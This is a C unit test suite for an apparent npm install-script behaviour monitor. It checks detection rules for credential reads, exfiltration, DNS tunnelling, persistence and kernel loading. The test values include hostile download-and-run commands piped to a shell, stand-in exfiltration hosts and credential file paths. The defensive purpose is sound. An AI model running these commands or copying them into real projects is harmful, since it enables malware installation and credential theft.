/*
 * tests/rules/test_rules.c - behaviour rules on first-seen recordings, the
 * rule format, the config's rules: section and the baseline policy.
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "fangs/fangs.h"
#include "rules/internal.h"

#define REGISTRY "registry.example"

static fangs_event_list events;
static fangs_deviation_list hits;
static fangs_rules *rules;

static void setup(void)
{
	memset(&events, 0, sizeof(events));
	memset(&hits, 0, sizeof(hits));
	ck_assert_int_eq(fangs_rules_new(&rules, NULL), 0);
}

static void teardown(void)
{
	fangs_event_list_free(&events);
	fangs_deviation_list_free(&hits);
	fangs_rules_free(rules);
}

static void load(const char *name)
{
	char path[1024];
	const char *root = getenv("FANGS_SOURCE_ROOT");
	snprintf(path, sizeof(path), "%s/tests/rules/fixtures/%s", root ? root : ".", name);
	ck_assert_msg(fangs_events_read_file(&events, path) == 0, "%s: %s", path, fangs_error_last());
	for (size_t i = 0; i < events.count; i++)
		events.items[i].id = (int64_t)i + 1; /* = line number */
}

static void evaluate_with(const fangs_rules *rs, const char *registry, int processes_left)
{
	fangs_rules_input in = FANGS_RULES_INPUT_INIT;
	in.run_id = "r1";
	in.package = "pkg";
	in.version = "1.0.0";
	in.events = events.items;
	in.n_events = events.count;
	in.registry_host = registry;
	in.processes_left = processes_left;
	fangs_deviation_list_free(&hits);
	ck_assert_msg(fangs_rules_evaluate(rs, &in, &hits) == 0, "%s", fangs_error_last());
}

static void evaluate(void)
{
	evaluate_with(rules, REGISTRY, -1);
}

static void dump(void)
{
	for (size_t i = 0; i < hits.count; i++)
		fprintf(stderr, "  hit %s %s %s\n", hits.items[i].kind, fangs_severity_name(hits.items[i].severity),
			hits.items[i].value);
}

static const fangs_deviation *find(const char *rule, const char *value)
{
	char kind[128];
	snprintf(kind, sizeof(kind), "rule:%s", rule);
	for (size_t i = 0; i < hits.count; i++)
		if (!strcmp(hits.items[i].kind, kind) && (!value || !strcmp(hits.items[i].value, value)))
			return &hits.items[i];
	return NULL;
}

static size_t count_rule(const char *rule)
{
	size_t n = 0;
	char kind[128];
	snprintf(kind, sizeof(kind), "rule:%s", rule);
	for (size_t i = 0; i < hits.count; i++)
		n += !strcmp(hits.items[i].kind, kind);
	return n;
}

/* The hit exists, says what it means, and its evidence is the right line. */
static const fangs_deviation *expect(const char *rule, const char *value, fangs_severity sev)
{
	const fangs_deviation *d = find(rule, value);
	if (!d)
		dump();
	ck_assert_msg(d, "expected rule %s to hit '%s'", rule, value ? value : "*");
	ck_assert_int_eq(d->severity, sev);
	ck_assert_ptr_nonnull(d->description);
	ck_assert(strlen(d->description) > 20);
	ck_assert_str_eq(d->run_id, "r1");
	ck_assert_str_eq(d->package, "pkg");
	ck_assert_uint_ge(d->n_evidence, 1);
	for (size_t i = 0; i < d->n_evidence; i++)
		ck_assert(d->evidence[i] >= 1 && d->evidence[i] <= (int64_t)events.count);
	return d;
}

static const fangs_event *evidence(const fangs_deviation *d, size_t i)
{
	ck_assert_uint_lt(i, d->n_evidence);
	return &events.items[d->evidence[i] - 1];
}

/* ---- one recording per rule that must hit ---- */

START_TEST(cred_read_by_script)
{
	const fangs_deviation *d;
	load("hit-cred-read.ndjson");
	evaluate();
	d = expect("cred-read-by-script", "~/.ssh/id_rsa", FANGS_SEV_CRITICAL);
	ck_assert_str_eq(evidence(d, 0)->path, "/root/.ssh/id_rsa");
	ck_assert_str_eq(d->origin.package, "cred-thief");
	ck_assert_str_eq(d->origin.script, "postinstall");
	ck_assert_int_eq(d->actor, FANGS_ACTOR_SCRIPT);
	expect("cred-read-by-script", "~/.aws/credentials", FANGS_SEV_CRITICAL);
	/* npm read ~/.npmrc in the same run: its own config is not a hit */
	ck_assert_ptr_null(find("cred-read-by-script", "~/.npmrc"));
	ck_assert_uint_eq(count_rule("cred-read-by-script"), 2);
}
END_TEST

START_TEST(network_not_registry)
{
	const fangs_deviation *d;
	load("hit-network.ndjson");
	evaluate();
	d = expect("script-network-not-registry", "collect.evil-host.example", FANGS_SEV_HIGH);
	/* the dns query and the server name are one finding */
	ck_assert_uint_eq(d->n_evidence, 2);
	ck_assert_int_eq(evidence(d, 0)->kind, FANGS_EV_DNS_QUERY);
	ck_assert_int_eq(evidence(d, 1)->kind, FANGS_EV_TLS_SNI);
	expect("script-network-not-registry", "198.51.100.23:443/tcp", FANGS_SEV_HIGH);
	/* the registry and the loopback resolver are not destinations */
	ck_assert_ptr_null(find("script-network-not-registry", REGISTRY));
	ck_assert_ptr_null(find("script-network-not-registry", "127.0.0.53:53/udp"));
	ck_assert_uint_eq(count_rule("script-network-not-registry"), 2);

	/* with no registry known, the registry's name counts too */
	evaluate_with(rules, NULL, -1);
	ck_assert_ptr_nonnull(find("script-network-not-registry", REGISTRY));
}
END_TEST

START_TEST(oob_services)
{
	load("hit-oob.ndjson");
	evaluate();
	expect("dns-oob-exfil-service", "cv3q8k2p1c0000a1b2c0g.oast.fun", FANGS_SEV_CRITICAL);
	expect("dns-oob-exfil-service", "discord.com", FANGS_SEV_CRITICAL);
	expect("dns-oob-exfil-service", "api.telegram.org", FANGS_SEV_CRITICAL);
}
END_TEST

START_TEST(dns_tunnel_label)
{
	const fangs_deviation *d;
	load("hit-dns-tunnel.ndjson");
	evaluate();
	d = expect("dns-tunnel-label", "2f726f6f742f2e7373682f69645f727361.4b4559.t.example", FANGS_SEV_HIGH);
	ck_assert_uint_eq(evidence(d, 0)->qtype, 16); /* TXT */
}
END_TEST

START_TEST(dns_many_subdomains)
{
	const fangs_deviation *d;
	load("hit-dns-subdomains.ndjson");
	evaluate();
	d = expect("dns-many-subdomains", "exfil.example (20 names)", FANGS_SEV_HIGH);
	ck_assert_uint_eq(d->n_evidence, 20);
	/* each name alone is short and plain: not a tunnel label */
	ck_assert_uint_eq(count_rule("dns-tunnel-label"), 0);
}
END_TEST

START_TEST(download_and_run)
{
	load("hit-download-run.ndjson");
	evaluate();
	expect("download-and-run", "sh -c curl -fsSL http://198.51.100.9/i.sh | bash", FANGS_SEV_CRITICAL);
	expect("download-and-run", "sh -c wget -q -O- http://198.51.100.9/x | sh -s", FANGS_SEV_CRITICAL);
	expect("download-and-run",
	       "/bin/sh -c curl -s -o /tmp/.x http://198.51.100.9/x && chmod +x /tmp/.x && /tmp/.x",
	       FANGS_SEV_CRITICAL);
	ck_assert_uint_eq(count_rule("download-and-run"), 3);
}
END_TEST

START_TEST(persistence)
{
	load("hit-persistence.ndjson");
	evaluate();
	expect("persistence-shell-startup", "~/.bashrc", FANGS_SEV_CRITICAL);
	expect("persistence-cron-systemd", "/etc/cron.d/node-update", FANGS_SEV_CRITICAL);
	expect("persistence-cron-systemd", "~/.config/systemd/user/node-update.service", FANGS_SEV_CRITICAL);
	expect("persistence-ssh-authorized-keys", "~/.ssh/authorized_keys", FANGS_SEV_CRITICAL);
	/* writing a key file is persistence, not a credential read */
	ck_assert_uint_eq(count_rule("cred-read-by-script"), 0);
}
END_TEST

START_TEST(proc_environ_other)
{
	const fangs_deviation *d;
	load("hit-proc-environ.ndjson");
	evaluate();
	d = expect("proc-environ-other", "/proc/<pid>/environ", FANGS_SEV_HIGH);
	ck_assert_uint_eq(d->n_evidence, 1); /* /proc/self/environ is its own */
	ck_assert_str_eq(evidence(d, 0)->path, "/proc/1/environ");
}
END_TEST

START_TEST(dropped_binary)
{
	const fangs_deviation *d;
	load("hit-dropped-binary.ndjson");
	evaluate();
	d = expect("dropped-binary-exec", "/tmp/.npm-helper", FANGS_SEV_HIGH);
	ck_assert_int_eq(evidence(d, 0)->kind, FANGS_EV_EXEC);
}
END_TEST

START_TEST(detached_process)
{
	const fangs_deviation *d;
	load("hit-detached.ndjson");
	evaluate();
	d = expect("detached-process", NULL, FANGS_SEV_HIGH);
	ck_assert_ptr_nonnull(strstr(d->value, "daemon.js"));
	ck_assert_int_eq(evidence(d, 0)->pid, 7040);
	ck_assert_uint_eq(count_rule("detached-process"), 1);
}
END_TEST

START_TEST(processes_left_input)
{
	const fangs_deviation *d;
	/* nothing in the events, but the sandbox counted a survivor */
	load("benign-core-js.ndjson");
	evaluate_with(rules, REGISTRY, 2);
	d = find("detached-process", "2 processes left in the sandbox");
	ck_assert_ptr_nonnull(d);
	ck_assert_uint_eq(d->n_evidence, 0);
	evaluate_with(rules, REGISTRY, 0);
	ck_assert_uint_eq(hits.count, 0);
}
END_TEST

START_TEST(privileged_operations)
{
	const fangs_deviation *d;
	load("hit-privileged.ndjson");
	evaluate();
	d = expect("ptrace-by-script", "ptrace attach", FANGS_SEV_HIGH);
	ck_assert_int_eq(evidence(d, 0)->target, 7000);
	ck_assert_str_eq(d->origin.package, "evil");
	expect("mount-by-script", "mount tmpfs ~/.ssh", FANGS_SEV_HIGH);
	expect("namespace-by-script", "setns net", FANGS_SEV_MEDIUM);
	expect("signal-outside-tree", "kill SIGKILL node (run)", FANGS_SEV_HIGH);
	expect("kernel-code-load", "finit_module", FANGS_SEV_CRITICAL);
	expect("kernel-code-load", "bpf prog_load", FANGS_SEV_CRITICAL);
	expect("perf-event-open", "perf_event_open software", FANGS_SEV_MEDIUM);
	/* the sandbox's own namespaces (npm's side, before any script) are no hit */
	ck_assert_ptr_null(find("namespace-by-script", "unshare user,mnt,pid,net"));
	ck_assert_uint_eq(count_rule("namespace-by-script"), 1);
	ck_assert_uint_eq(count_rule("sensor-blinded"), 0);
}
END_TEST

START_TEST(events_lost_input)
{
	fangs_rules_input in = FANGS_RULES_INPUT_INIT;
	const fangs_deviation *d;

	load("benign-core-js.ndjson");
	in.run_id = "r1";
	in.package = "pkg";
	in.events = events.items;
	in.n_events = events.count;
	in.registry_host = REGISTRY;
	in.events_lost = 51234;
	ck_assert_int_eq(fangs_rules_evaluate(rules, &in, &hits), 0);
	d = find("sensor-blinded", "sensor blinded: 51234 events lost");
	ck_assert_ptr_nonnull(d);
	ck_assert_int_eq(d->severity, FANGS_SEV_HIGH);
	ck_assert_uint_eq(d->n_evidence, 0); /* what was lost has no event */
	ck_assert_uint_eq(hits.count, 1);
	fangs_deviation_list_free(&hits);
	in.events_lost = 0;
	ck_assert_int_eq(fangs_rules_evaluate(rules, &in, &hits), 0);
	ck_assert_uint_eq(hits.count, 0);
}
END_TEST

/* ---- ordinary install work: nothing at medium or above ---- */

static void expect_quiet(const char *name)
{
	load(name);
	evaluate();
	for (size_t i = 0; i < hits.count; i++)
		ck_assert_msg(hits.items[i].severity < FANGS_SEV_MEDIUM, "%s: %s hit '%s'", name, hits.items[i].kind,
			      hits.items[i].value);
}

START_TEST(benign_node_gyp)
{
	expect_quiet("benign-node-gyp.ndjson");
}
END_TEST

START_TEST(benign_esbuild)
{
	expect_quiet("benign-esbuild.ndjson");
}
END_TEST

START_TEST(benign_core_js)
{
	expect_quiet("benign-core-js.ndjson");
}
END_TEST

START_TEST(benign_husky)
{
	expect_quiet("benign-husky.ndjson");
}
END_TEST

/* A sandbox may run a helper before npm (docker): the install ends when npm
 * exits, not when the first process seen does. */
START_TEST(benign_helper_before_npm)
{
	expect_quiet("benign-helper-before-npm.ndjson");
	ck_assert_uint_eq(count_rule("detached-process"), 0);
}
END_TEST

START_TEST(benign_npm_network)
{
	expect_quiet("benign-banner-echo.ndjson");
}
END_TEST

/* ---- matchers ---- */

START_TEST(matchers)
{
	char host[64];
	ck_assert(fangs__rule_glob("~/.bashrc", "/root/.bashrc"));
	ck_assert(fangs__rule_glob("~/.bashrc", "/home/alice/.bashrc"));
	ck_assert(!fangs__rule_glob("~/.bashrc", "/home/alice/x/.bashrc"));
	ck_assert(!fangs__rule_glob("~/.bashrc", "/work/.bashrc"));
	ck_assert(fangs__rule_glob("/etc/cron*", "/etc/cron.d/x"));
	ck_assert(fangs__rule_glob("/etc/cron*", "/etc/crontab"));
	ck_assert(fangs__rule_host("*.oast.fun", "abc.oast.fun"));
	ck_assert(!fangs__rule_host("*.oast.fun", "oast.fun"));
	ck_assert(fangs__rule_host("webhook.site", "webhook.site"));
	ck_assert(fangs__rule_host("webhook.site", "x.webhook.site"));
	ck_assert(!fangs__rule_host("webhook.site", "notwebhook.site"));
	ck_assert(fangs__entropy("aaaa", 4) == 0.0);
	ck_assert(fangs__entropy("abcd", 4) == 2.0);
	ck_assert_int_eq(fangs_registry_host("https://Registry.Example:8443/npm/", host, sizeof(host)), 0);
	ck_assert_str_eq(host, "registry.example");
	ck_assert_int_eq(fangs_registry_host("http://u:p@[::1]:4873", host, sizeof(host)), 0);
	ck_assert_str_eq(host, "::1");
	ck_assert_int_eq(fangs_registry_host("registry.example", host, sizeof(host)), FANGS_EINVAL);
}
END_TEST

START_TEST(builtin_set)
{
	fangs_rule_info r;
	static const char *const ids[] = {"cred-read-by-script", "script-network-not-registry", "dns-oob-exfil-service",
					  "dns-tunnel-label", "dns-many-subdomains", "download-and-run",
					  "persistence-shell-startup", "persistence-cron-systemd",
					  "persistence-ssh-authorized-keys", "proc-environ-other", "dropped-binary-exec",
					  "detached-process", "ptrace-by-script", "mount-by-script", "namespace-by-script",
					  "signal-outside-tree", "kernel-code-load", "perf-event-open", "sensor-blinded"};
	for (size_t i = 0; i < sizeof(ids) / sizeof(ids[0]); i++) {
		ck_assert_msg(fangs_rules_find(rules, ids[i], &r) == 0, "no built-in rule %s", ids[i]);
		ck_assert(r.enabled);
		ck_assert_str_eq(r.source, "builtin");
		ck_assert(r.severity >= FANGS_SEV_MEDIUM);
		ck_assert_ptr_nonnull(r.match);
	}
	ck_assert_ptr_nonnull(strstr(fangs_rules_builtin_yaml(), "id: cred-read-by-script"));
	ck_assert_int_eq(fangs_rules_find(rules, "nope", &r), FANGS_ENOTFOUND);
}
END_TEST

/* ---- the format: errors name the file, the line and the rule ---- */

static void expect_error(const char *yaml, const char *needle)
{
	fangs_rules *rs = NULL;
	fangs_rules_options o = FANGS_RULES_OPTIONS_INIT;
	o.no_builtin = 1;
	ck_assert_int_eq(fangs_rules_new(&rs, &o), 0);
	ck_assert_int_eq(fangs_rules_load_string(rs, yaml, strlen(yaml), "local.yaml"), FANGS_ECONFIG);
	ck_assert_msg(strstr(fangs_error_last(), needle), "'%s' lacks '%s'", fangs_error_last(), needle);
	fangs_rules_free(rs);
}

START_TEST(bad_rules)
{
	expect_error("rules:\n  - id: ok-rule\n    description: fine\n    severity: high\n    match: {kind: exec}\n"
		     "  - id: broken\n    description: x\n    severity: huge\n    match: {kind: exec}\n",
		     "local.yaml:8: rule broken: severity");
	expect_error("rules:\n  - id: r1\n    description: d\n    severity: low\n    match:\n      colour: red\n",
		     "local.yaml:6: rule r1: unknown match key 'colour'");
	expect_error("rules:\n  - id: r2\n    description: d\n    severity: low\n    match:\n      kind: fork\n",
		     "local.yaml:6: rule r2: kind: unknown event kind 'fork'");
	expect_error("rules:\n  - id: r3\n    description: d\n    severity: low\n    match:\n      argv: '(curl'\n",
		     "local.yaml:6: rule r3: argv: bad regular expression");
	expect_error("rules:\n  - description: d\n    severity: low\n    match: {kind: exec}\n",
		     "local.yaml:2: rule #1: no id");
	expect_error("rules:\n  - id: r4\n    severity: low\n    match: {kind: exec}\n", "rule r4: no description");
	expect_error("rules:\n  - id: r5\n    description: d\n    severity: low\n    match: {}\n",
		     "rule r5: match: no conditions");
	expect_error("rules:\n  - id: r6\n    description: d\n    severity: low\n    match: {path: relative/x}\n",
		     "rule r6: path: 'relative/x' must be absolute");
	expect_error("rules:\n  - id: r7\n    description: d\n    severity: low\n    match: {dns_label: {min_length: 9}}\n",
		     "rule r7: dns_label and subdomains apply to dns_query events only");
	expect_error("rules:\n  - id: r8\n    description: d\n    severity: low\n    match: {op: ptrace}\n",
		     "rule r8: op and detail apply to syscall events only");
	expect_error("rules:\n  - id: r9\n    description: d\n    severity: low\n    match: {events_lost: true, kind: exec}\n",
		     "rule r9: events_lost is a run condition");
	expect_error("rules:\n  - id: r10\n    description: d\n    severity: low\n    match: {events_lost: false}\n",
		     "rule r10: events_lost: only 'true'");
	expect_error("rulez: []\n", "local.yaml:1: unknown key 'rulez'");
	expect_error("rules: [\n", "local.yaml:");
}
END_TEST

START_TEST(user_rule_and_replacement)
{
	fangs_rule_info r;
	static const char yaml[] =
		"rules:\n"
		"  - id: git-over-ssh\n"
		"    description: A lifecycle script ran ssh, under a shell whose parent is the script itself.\n"
		"    severity: medium\n"
		"    match:\n"
		"      kind: exec\n"
		"      exe: /usr/bin/ssh\n"
		"      parent_comm: sh\n"
		"  - id: dropped-binary-exec\n"
		"    description: Replaced by the user.\n"
		"    severity: low\n"
		"    enabled: false\n"
		"    match: {kind: exec, exec_written: true}\n";
	size_t before = fangs_rules_count(rules);
	ck_assert_int_eq(fangs_rules_load_string(rules, yaml, strlen(yaml), "mine.yaml"), 0);
	ck_assert_uint_eq(fangs_rules_count(rules), before + 1);
	ck_assert_int_eq(fangs_rules_find(rules, "dropped-binary-exec", &r), 0);
	ck_assert_str_eq(r.source, "mine.yaml");
	ck_assert(!r.enabled);
	load("hit-dropped-binary.ndjson");
	evaluate();
	ck_assert_uint_eq(count_rule("dropped-binary-exec"), 0);
	ck_assert_int_eq(fangs_rules_find(rules, "git-over-ssh", &r), 0);
	ck_assert_ptr_nonnull(strstr(r.match, "parent_comm: sh"));
}
END_TEST

/* ---- the config's rules: section ---- */

START_TEST(config_section)
{
	char dir[] = "/tmp/fangs-rules-XXXXXX", file[256], cfgtext[1024];
	fangs_config *cfg = NULL;
	fangs_rules *rs = NULL;
	fangs_rules_options o = FANGS_RULES_OPTIONS_INIT;
	fangs_rule_info r;
	FILE *f;

	ck_assert_ptr_nonnull(mkdtemp(dir));
	snprintf(file, sizeof(file), "%s/extra.yaml", dir);
	f = fopen(file, "w");
	ck_assert_ptr_nonnull(f);
	fputs("rules:\n  - id: tmp-exec\n    description: A script ran something from /tmp.\n    severity: high\n"
	      "    match: {kind: exec, actor: script, path: /tmp/*}\n",
	      f);
	fclose(f);
	snprintf(cfgtext, sizeof(cfgtext),
		 "rules:\n"
		 "  files: [%s]\n"
		 "  disable: [dns-many-subdomains]\n"
		 "  severity: {proc-environ-other: low}\n"
		 "  add:\n"
		 "    - id: cron-read\n"
		 "      description: A script read a cron table.\n"
		 "      severity: medium\n"
		 "      match: {kind: file_open, actor: script, path: /etc/crontab}\n"
		 "severity:\n"
		 "  packages:\n"
		 "    pkg: {\"rule:cred-read-by-script\": high}\n",
		 file);
	ck_assert_msg(fangs_config_load_string(&cfg, cfgtext, strlen(cfgtext), "fangs.yaml") == 0, "%s",
		      fangs_error_last());
	ck_assert_uint_eq(cfg->n_rules_inline, 1);
	o.config = cfg;
	ck_assert_msg(fangs_rules_new(&rs, &o) == 0, "%s", fangs_error_last());
	ck_assert_int_eq(fangs_rules_find(rs, "tmp-exec", &r), 0);
	ck_assert_str_eq(r.source, file);
	ck_assert_int_eq(fangs_rules_find(rs, "cron-read", &r), 0);
	ck_assert_str_eq(r.source, "fangs.yaml");
	ck_assert_uint_eq(r.line, 6);
	ck_assert_int_eq(fangs_rules_find(rs, "dns-many-subdomains", &r), 0);
	ck_assert(!r.enabled);

	load("hit-dns-subdomains.ndjson");
	evaluate_with(rs, REGISTRY, -1);
	ck_assert_uint_eq(count_rule("dns-many-subdomains"), 0);
	fangs_event_list_free(&events);
	load("hit-proc-environ.ndjson");
	evaluate_with(rs, REGISTRY, -1);
	ck_assert_int_eq(find("proc-environ-other", NULL)->severity, FANGS_SEV_LOW);
	fangs_event_list_free(&events);
	load("hit-cred-read.ndjson");
	evaluate_with(rs, REGISTRY, -1);
	ck_assert_int_eq(find("cred-read-by-script", NULL)->severity, FANGS_SEV_HIGH); /* package override */
	fangs_event_list_free(&events);
	load("hit-dropped-binary.ndjson");
	evaluate_with(rs, REGISTRY, -1);
	ck_assert_ptr_nonnull(find("tmp-exec", "/tmp/.npm-helper"));
	fangs_rules_free(rs);
	fangs_config_free(cfg);

	/* a bad inline rule stops the config load with its line */
	snprintf(cfgtext, sizeof(cfgtext), "rules:\n  add:\n    - id: x\n      description: d\n"
					   "      severity: loud\n      match: {kind: exec}\n");
	ck_assert_int_eq(fangs_config_load_string(&cfg, cfgtext, strlen(cfgtext), "bad.yaml"), FANGS_ECONFIG);
	ck_assert_ptr_nonnull(strstr(fangs_error_last(), "bad.yaml:5: rule x: severity"));
	/* disabling a rule that does not exist is a mistake worth hearing about */
	snprintf(cfgtext, sizeof(cfgtext), "rules: {disable: [no-such-rule]}\n");
	ck_assert_int_eq(fangs_config_load_string(&cfg, cfgtext, strlen(cfgtext), "c.yaml"), 0);
	o.config = cfg;
	ck_assert_int_eq(fangs_rules_new(&rs, &o), FANGS_ECONFIG);
	ck_assert_ptr_nonnull(strstr(fangs_error_last(), "no-such-rule"));
	fangs_config_free(cfg);
	/* a missing rule file is named */
	snprintf(cfgtext, sizeof(cfgtext), "rules: {files: [/nonexistent/r.yaml]}\n");
	ck_assert_int_eq(fangs_config_load_string(&cfg, cfgtext, strlen(cfgtext), "c.yaml"), 0);
	o.config = cfg;
	ck_assert_int_eq(fangs_rules_new(&rs, &o), FANGS_ECONFIG);
	ck_assert_ptr_nonnull(strstr(fangs_error_last(), "/nonexistent/r.yaml"));
	fangs_config_free(cfg);
	unlink(file);
	rmdir(dir);
}
END_TEST

/* ---- the baseline policy in fangs_analyze_run ---- */

static char dbdir[64];
static fangs_storage *st;

static void db_setup(void)
{
	fangs_storage_options so = FANGS_STORAGE_OPTIONS_INIT;
	char path[128];
	setup();
	snprintf(dbdir, sizeof(dbdir), "/tmp/fangs-rules-db-XXXXXX");
	ck_assert_ptr_nonnull(mkdtemp(dbdir));
	snprintf(path, sizeof(path), "%s/f.db", dbdir);
	so.backend = "sqlite";
	so.sqlite_path = path;
	ck_assert_int_eq(fangs_storage_open(&st, &so), 0);
}

static void db_teardown(void)
{
	char cmd[128];
	fangs_storage_free(st);
	snprintf(cmd, sizeof(cmd), "rm -rf %s", dbdir);
	ck_assert_int_eq(system(cmd), 0);
	teardown();
}

static fangs_baseline_action import_run(const char *fixture, const char *package, const fangs_config *cfg,
					fangs_analysis *an)
{
	fangs_run run = {0};
	fangs_differ *d = NULL;
	fangs_differ_options dopts = FANGS_DIFFER_OPTIONS_INIT;
	fangs_analyze_options ao = FANGS_ANALYZE_OPTIONS_INIT;
	fangs_event_list_free(&events);
	load(fixture);
	for (size_t i = 0; i < events.count; i++)
		events.items[i].id = 0;
	run.package = (char *)package;
	run.version = (char *)"1.0.0";
	run.state = FANGS_RUN_SUCCEEDED;
	run.sandbox = (char *)"import";
	ck_assert_int_eq(fangs_storage_run_create(st, &run), 0);
	ck_assert_int_eq(fangs_storage_events_append(st, run.id, events.items, events.count), 0);
	dopts.config = cfg;
	ck_assert_int_eq(fangs_differ_new(&d, &dopts), 0);
	ao.registry_host = REGISTRY;
	ck_assert_msg(fangs_analyze_run_opts(st, d, cfg, run.id, &ao, an) == 0, "%s", fangs_error_last());
	fangs_differ_free(d);
	return an->action;
}

START_TEST(first_run_with_hit_waits)
{
	fangs_analysis an = {0};
	fangs_deviation_list stored = {0};
	fangs_deviation_filter df = FANGS_DEVIATION_FILTER_INIT;
	fangs_package pkg = {0};

	ck_assert_int_eq(import_run("hit-cred-read.ndjson", "cred-thief", NULL, &an), FANGS_BASELINE_PENDING);
	ck_assert_uint_eq(an.deviations.count, 2);
	ck_assert_str_eq(an.deviations.items[0].kind, "rule:cred-read-by-script");
	ck_assert_uint_gt(an.deviations.items[0].id, 0);
	/* stored with the deviations, evidence pointing at stored events */
	df.package = "cred-thief";
	ck_assert_int_eq(fangs_storage_deviations_list(st, &df, &stored), 0);
	ck_assert_uint_eq(stored.count, 2);
	ck_assert_ptr_nonnull(stored.items[0].description);
	ck_assert_uint_ge(stored.items[0].n_evidence, 1);
	ck_assert_int_eq(fangs_storage_package_get(st, "cred-thief", &pkg), 0);
	ck_assert_int_eq(pkg.baseline_size, 0); /* nothing was seeded */
	fangs_package_clear(&pkg);
	fangs_deviation_list_free(&stored);
	fangs_analysis_clear(&an);

	/* an ordinary first run still seeds */
	ck_assert_int_eq(import_run("benign-node-gyp.ndjson", "native-addon", NULL, &an), FANGS_BASELINE_SEEDED);
	ck_assert_uint_eq(an.deviations.count, 0);
	fangs_analysis_clear(&an);
}
END_TEST

START_TEST(low_hits_do_not_hold)
{
	fangs_analysis an = {0};
	fangs_config *cfg = NULL;
	static const char y[] = "rules:\n  severity: {proc-environ-other: low}\n";
	ck_assert_int_eq(fangs_config_load_string(&cfg, y, strlen(y), "c.yaml"), 0);
	ck_assert_int_eq(import_run("hit-proc-environ.ndjson", "env-peek", cfg, &an), FANGS_BASELINE_SEEDED);
	ck_assert_uint_eq(an.deviations.count, 1);
	ck_assert_int_eq(an.deviations.items[0].severity, FANGS_SEV_LOW);
	fangs_analysis_clear(&an);
	fangs_config_free(cfg);
}
END_TEST

static Suite *rules_suite(void)
{
	Suite *s = suite_create("rules");
	TCase *tc = tcase_create("recordings");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, cred_read_by_script);
	tcase_add_test(tc, network_not_registry);
	tcase_add_test(tc, oob_services);
	tcase_add_test(tc, dns_tunnel_label);
	tcase_add_test(tc, dns_many_subdomains);
	tcase_add_test(tc, download_and_run);
	tcase_add_test(tc, persistence);
	tcase_add_test(tc, proc_environ_other);
	tcase_add_test(tc, dropped_binary);
	tcase_add_test(tc, detached_process);
	tcase_add_test(tc, benign_helper_before_npm);
	tcase_add_test(tc, processes_left_input);
	tcase_add_test(tc, privileged_operations);
	tcase_add_test(tc, events_lost_input);
	tcase_add_test(tc, benign_node_gyp);
	tcase_add_test(tc, benign_esbuild);
	tcase_add_test(tc, benign_core_js);
	tcase_add_test(tc, benign_husky);
	tcase_add_test(tc, benign_npm_network);
	suite_add_tcase(s, tc);

	tc = tcase_create("format");
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_add_test(tc, matchers);
	tcase_add_test(tc, builtin_set);
	tcase_add_test(tc, bad_rules);
	tcase_add_test(tc, user_rule_and_replacement);
	tcase_add_test(tc, config_section);
	suite_add_tcase(s, tc);

	tc = tcase_create("analyze");
	tcase_add_checked_fixture(tc, db_setup, db_teardown);
	tcase_add_test(tc, first_run_with_hit_waits);
	tcase_add_test(tc, low_hits_do_not_hold);
	suite_add_tcase(s, tc);
	return s;
}

int main(void)
{
	SRunner *sr = srunner_create(rules_suite());
	int failed;
	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
